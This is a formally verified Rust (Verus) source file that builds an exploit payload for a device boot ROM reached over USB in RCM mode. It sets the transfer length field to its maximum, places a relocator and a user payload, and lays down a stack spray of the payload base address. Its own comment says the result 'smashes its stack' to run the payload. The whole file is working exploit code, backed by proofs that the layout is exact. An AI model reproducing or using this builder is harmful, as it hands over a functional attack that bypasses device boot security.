use vstd::prelude::*;

verus! {

/// Address where the RCM payload (everything after the command header) lands.
pub const RCM_PAYLOAD_ADDR: u32 = 0x40010000;

/// Address where the user payload is expected to begin.
pub const PAYLOAD_START_ADDR: u32 = 0x40010E40;

/// First address of the stack-spray window.
pub const STACK_SPRAY_START: u32 = 0x40014E40;

/// First address after the stack-spray window.
pub const STACK_SPRAY_END: u32 = 0x40017000;

/// Largest RCM transfer the boot ROM accepts; also the value of the length field.
pub const MAX_LENGTH: u32 = 0x30298;

/// Size of the RCM command header that precedes the relocator.
pub const HEADER_LEN: usize = 680;

/// Size of one USB request, and the granularity the blob is padded to.
pub const CHUNK_SIZE: usize = 0x1000;

/// Room for the relocator before the user payload starts.
pub const RELOCATOR_SPAN: usize = 0xE40;

/// Number of user-payload bytes that fit before the stack spray.
pub const PRE_SPRAY_SPAN: usize = 0x4000;

/// Number of 4-byte words in the stack spray.
pub const SPRAY_WORDS: usize = 2160;

/// Fixed part of the blob: header, relocator with its padding, and spray.
pub const FIXED_SPAN: usize = 12968;

/// Offset of the stack spray in the blob: where the spray window's first
/// address lands.
pub const SPRAY_OFFSET: usize = 20712;

/// Why a blob could not be built.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub enum BuildError {
    /// The relocator runs past the start address of the user payload.
    RelocatorTooLarge { size: usize },
    /// The blob would exceed the maximum transfer; `excess` is the overage in bytes.
    PayloadTooLarge { excess: usize },
}

/// The address constants relate as the sizes above say.
pub proof fn lemma_address_spans()
    ensures
        (PAYLOAD_START_ADDR - RCM_PAYLOAD_ADDR) as usize == RELOCATOR_SPAN,
        (STACK_SPRAY_START - PAYLOAD_START_ADDR) as usize == PRE_SPRAY_SPAN,
        ((STACK_SPRAY_END - STACK_SPRAY_START) / 4) as usize == SPRAY_WORDS,
        FIXED_SPAN == HEADER_LEN + RELOCATOR_SPAN + 4 * SPRAY_WORDS,
        SPRAY_OFFSET == HEADER_LEN + (STACK_SPRAY_START - RCM_PAYLOAD_ADDR),
        SPRAY_OFFSET == HEADER_LEN + RELOCATOR_SPAN + PRE_SPRAY_SPAN,
{
}

pub open spec fn zeros(n: nat) -> Seq<u8> {
    Seq::new(n, |i: int| 0u8)
}

/// The four little-endian bytes of `w`.
pub open spec fn le_bytes(w: u32) -> Seq<u8> {
    seq![
        (w % 0x100) as u8,
        ((w / 0x100) % 0x100) as u8,
        ((w / 0x10000) % 0x100) as u8,
        (w / 0x1000000) as u8,
    ]
}

/// The RCM command header: the length field, zero-padded to `HEADER_LEN`.
pub open spec fn header() -> Seq<u8> {
    le_bytes(MAX_LENGTH) + zeros((HEADER_LEN - 4) as nat)
}

/// `n` little-endian copies of the payload base address.
pub open spec fn spray_words(n: nat) -> Seq<u8> {
    Seq::new(4 * n, |i: int| le_bytes(RCM_PAYLOAD_ADDR)[i % 4])
}

pub open spec fn spray() -> Seq<u8> {
    spray_words(SPRAY_WORDS as nat)
}

pub open spec fn min_nat(a: nat, b: nat) -> nat {
    if a <= b { a } else { b }
}

/// User-payload bytes placed before the spray.
pub open spec fn payload_head(target: Seq<u8>) -> Seq<u8> {
    target.take(min_nat(target.len(), PRE_SPRAY_SPAN as nat) as int)
}

/// Zero bytes that fill the room before the spray the user payload leaves.
pub open spec fn head_gap(target: Seq<u8>) -> Seq<u8> {
    zeros((PRE_SPRAY_SPAN - payload_head(target).len()) as nat)
}

/// User-payload bytes placed after the spray.
pub open spec fn payload_tail(target: Seq<u8>) -> Seq<u8> {
    if target.len() > PRE_SPRAY_SPAN { target.skip(PRE_SPRAY_SPAN as int) } else { Seq::empty() }
}

/// The blob before its final padding.
pub open spec fn blob_body(relocator: Seq<u8>, target: Seq<u8>) -> Seq<u8> {
    header() + relocator + zeros((RELOCATOR_SPAN - relocator.len()) as nat) + payload_head(target)
        + head_gap(target) + spray() + payload_tail(target)
}

/// Zero bytes appended after `n` bytes: up to the next multiple of `CHUNK_SIZE`,
/// a whole chunk when `n` is already a multiple.
pub open spec fn pad_len(n: nat) -> nat {
    (CHUNK_SIZE - n % (CHUNK_SIZE as nat)) as nat
}

/// The complete byte stream sent to the device.
pub open spec fn blob(relocator: Seq<u8>, target: Seq<u8>) -> Seq<u8> {
    let body = blob_body(relocator, target);
    body + zeros(pad_len(body.len()))
}

/// Length of the blob, for a relocator that fits its span.
pub open spec fn blob_len(target_len: nat) -> nat {
    let body = (FIXED_SPAN + (if target_len < PRE_SPRAY_SPAN { PRE_SPRAY_SPAN as nat } else { target_len })) as nat;
    body + pad_len(body)
}


/// Every blob within the maximum length is a whole number of chunks, and
/// carries the relocator unchanged right after the command header.
pub proof fn lemma_blob_aligned_relocator_in_place(relocator: Seq<u8>, target: Seq<u8>)
    requires
        relocator.len() <= RELOCATOR_SPAN,
        blob(relocator, target).len() <= MAX_LENGTH,
    ensures
        blob(relocator, target).len() % (CHUNK_SIZE as nat) == 0,
        blob(relocator, target).subrange(HEADER_LEN as int, HEADER_LEN + relocator.len())
            == relocator,
{
    let b = blob(relocator, target);
    let n = blob_body(relocator, target).len();
    assert(n + pad_len(n) == n - n % 4096 + 4096);
    assert((n - n % 4096 + 4096) % 4096 == 0) by (nonlinear_arith)
        requires n >= 0;
    assert(b.subrange(HEADER_LEN as int, HEADER_LEN + relocator.len()) =~= relocator);
}

/// Whatever the user payload's size, the stack spray is `SPRAY_WORDS` copies
/// of the little-endian payload base address, at the blob offset where the
/// spray window's first address lands.
pub proof fn lemma_spray_in_place(relocator: Seq<u8>, target: Seq<u8>)
    requires
        relocator.len() <= RELOCATOR_SPAN,
    ensures
        blob(relocator, target).subrange(
            SPRAY_OFFSET as int,
            SPRAY_OFFSET + 4 * SPRAY_WORDS,
        ) == spray(),
        forall|k: int|
            0 <= k < SPRAY_WORDS ==> #[trigger] blob(relocator, target).subrange(
                SPRAY_OFFSET + 4 * k,
                SPRAY_OFFSET + 4 * k + 4,
            ) == le_bytes(RCM_PAYLOAD_ADDR),
        SPRAY_OFFSET == HEADER_LEN + (STACK_SPRAY_START - RCM_PAYLOAD_ADDR),
{
    let b = blob(relocator, target);
    let off = SPRAY_OFFSET as int;
    assert(b.subrange(off, off + 4 * SPRAY_WORDS) =~= spray());
    assert forall|k: int| 0 <= k < SPRAY_WORDS implies #[trigger] b.subrange(
        off + 4 * k,
        off + 4 * k + 4,
    ) == le_bytes(RCM_PAYLOAD_ADDR) by {
        assert forall|j: int| 0 <= j < 4 implies b[off + 4 * k + j] == le_bytes(RCM_PAYLOAD_ADDR)[j] by {
            assert(b[off + 4 * k + j] == spray()[4 * k + j]);
            assert((4 * k + j) % 4 == j);
        }
        assert(b.subrange(off + 4 * k, off + 4 * k + 4) =~= le_bytes(RCM_PAYLOAD_ADDR));
    }
}

/// Appends the four little-endian bytes of `w`.
fn push_word(out: &mut Vec<u8>, w: u32)
    ensures
        final(out)@ == old(out)@ + le_bytes(w),
{
    out.push((w % 0x100) as u8);
    out.push(((w / 0x100) % 0x100) as u8);
    out.push(((w / 0x10000) % 0x100) as u8);
    out.push((w / 0x1000000) as u8);
    assert(final(out)@ =~= old(out)@ + le_bytes(w));
}

/// Appends `n` zero bytes.
fn push_zeros(out: &mut Vec<u8>, n: usize)
    ensures
        final(out)@ == old(out)@ + zeros(n as nat),
{
    let ghost start = out@;
    let mut i: usize = 0;
    while i < n
        invariant
            i <= n,
            out@ == start + zeros(i as nat),
        decreases n - i,
    {
        out.push(0u8);
        i = i + 1;
        assert(out@ =~= start + zeros(i as nat));
    }
}

/// Appends `src[start..end]`.
fn push_range(out: &mut Vec<u8>, src: &[u8], start: usize, end: usize)
    requires
        start <= end <= src@.len(),
    ensures
        final(out)@ == old(out)@ + src@.subrange(start as int, end as int),
{
    let ghost base = out@;
    let mut i: usize = start;
    while i < end
        invariant
            start <= i <= end,
            end <= src@.len(),
            out@ == base + src@.subrange(start as int, i as int),
        decreases end - i,
    {
        out.push(src[i]);
        i = i + 1;
        assert(out@ =~= base + src@.subrange(start as int, i as int));
    }
}

/// Appends the stack spray.
fn push_spray(out: &mut Vec<u8>)
    ensures
        final(out)@ == old(out)@ + spray(),
{
    let ghost base = out@;
    let mut k: usize = 0;
    while k < SPRAY_WORDS
        invariant
            k <= SPRAY_WORDS,
            out@ == base + spray_words(k as nat),
        decreases SPRAY_WORDS - k,
    {
        push_word(out, RCM_PAYLOAD_ADDR);
        proof {
            let w = le_bytes(RCM_PAYLOAD_ADDR);
            assert forall|i: int| 0 <= i < 4 * (k + 1) implies #[trigger] spray_words((k + 1) as nat)[i]
                == (spray_words(k as nat) + w)[i] by {
                if i >= 4 * k {
                    assert(i % 4 == i - 4 * k);
                }
            }
            assert(spray_words((k + 1) as nat) =~= spray_words(k as nat) + w);
        }
        k = k + 1;
    }
}

/// Length of the blob for a user payload of `target_len` bytes, or the number
/// of bytes by which it would exceed `MAX_LENGTH`.
fn checked_blob_len(target_len: usize) -> (r: Result<usize, usize>)
    ensures
        match r {
            Ok(n) => n == blob_len(target_len as nat) && n <= MAX_LENGTH,
            Err(excess) => blob_len(target_len as nat) > MAX_LENGTH && excess == blob_len(
                target_len as nat,
            ) - MAX_LENGTH,
        },
{
    let used: usize = if target_len < PRE_SPRAY_SPAN { PRE_SPRAY_SPAN } else { target_len };
    let rem: usize = (used % CHUNK_SIZE + HEADER_LEN) % CHUNK_SIZE;
    assert(rem == (FIXED_SPAN + used) as nat % (CHUNK_SIZE as nat));
    let pad: usize = CHUNK_SIZE - rem;
    let room: usize = MAX_LENGTH as usize - FIXED_SPAN - pad;
    if used > room {
        Err(used - room)
    } else {
        Ok(FIXED_SPAN + used + pad)
    }
}

/// Builds the byte stream that carries `relocator` and `target_payload` into
/// device memory and smashes its stack.
///
/// Fails when the relocator does not fit before the user payload's start
/// address, and when the blob would exceed the maximum RCM transfer; then the
/// error reports the overage in bytes. Nothing is ever truncated to fit.
pub fn build_payload(target_payload: &[u8], relocator: &[u8]) -> (r: Result<Vec<u8>, BuildError>)
    ensures
        relocator@.len() > RELOCATOR_SPAN ==> r == Err::<Vec<u8>, BuildError>(
            BuildError::RelocatorTooLarge { size: relocator@.len() as usize },
        ),
        relocator@.len() <= RELOCATOR_SPAN ==> blob_len(target_payload@.len()) == blob(
            relocator@,
            target_payload@,
        ).len(),
        relocator@.len() <= RELOCATOR_SPAN && blob_len(target_payload@.len()) > MAX_LENGTH ==> r
            == Err::<Vec<u8>, BuildError>(
            BuildError::PayloadTooLarge {
                excess: (blob_len(target_payload@.len()) - MAX_LENGTH) as usize,
            },
        ),
        relocator@.len() <= RELOCATOR_SPAN && blob_len(target_payload@.len()) <= MAX_LENGTH ==> r
            is Ok && r->Ok_0@ == blob(relocator@, target_payload@),
{
    let ghost rel = relocator@;
    let ghost tgt = target_payload@;
    let rlen = relocator.len();
    if rlen > RELOCATOR_SPAN {
        return Err(BuildError::RelocatorTooLarge { size: rlen });
    }
    let tlen = target_payload.len();
    let ghost body = blob_body(rel, tgt);
    assert(body.len() == FIXED_SPAN + (if tlen < PRE_SPRAY_SPAN { PRE_SPRAY_SPAN as int } else { tlen as int }));
    match checked_blob_len(tlen) {
        Err(excess) => {
            return Err(BuildError::PayloadTooLarge { excess });
        },
        Ok(total) => {
            let mut out: Vec<u8> = Vec::new();
            push_word(&mut out, MAX_LENGTH);
            push_zeros(&mut out, HEADER_LEN - 4);
            push_range(&mut out, relocator, 0, rlen);
            push_zeros(&mut out, RELOCATOR_SPAN - rlen);
            let head = if tlen < PRE_SPRAY_SPAN { tlen } else { PRE_SPRAY_SPAN };
            push_range(&mut out, target_payload, 0, head);
            push_zeros(&mut out, PRE_SPRAY_SPAN - head);
            push_spray(&mut out);
            if tlen > PRE_SPRAY_SPAN {
                push_range(&mut out, target_payload, PRE_SPRAY_SPAN, tlen);
            }
            assert(rel.subrange(0, rlen as int) =~= rel);
            assert(tgt.subrange(0, head as int) =~= payload_head(tgt));
            assert(tgt.subrange(PRE_SPRAY_SPAN as int, tlen as int) =~= payload_tail(tgt) || tlen
                <= PRE_SPRAY_SPAN);
            assert(out@ =~= body) by {
                if tlen <= PRE_SPRAY_SPAN {
                    assert(payload_tail(tgt) =~= Seq::<u8>::empty());
                }
            }
            let len_now = out.len();
            push_zeros(&mut out, total - len_now);
            Ok(out)
        },
    }
}

} // verus!
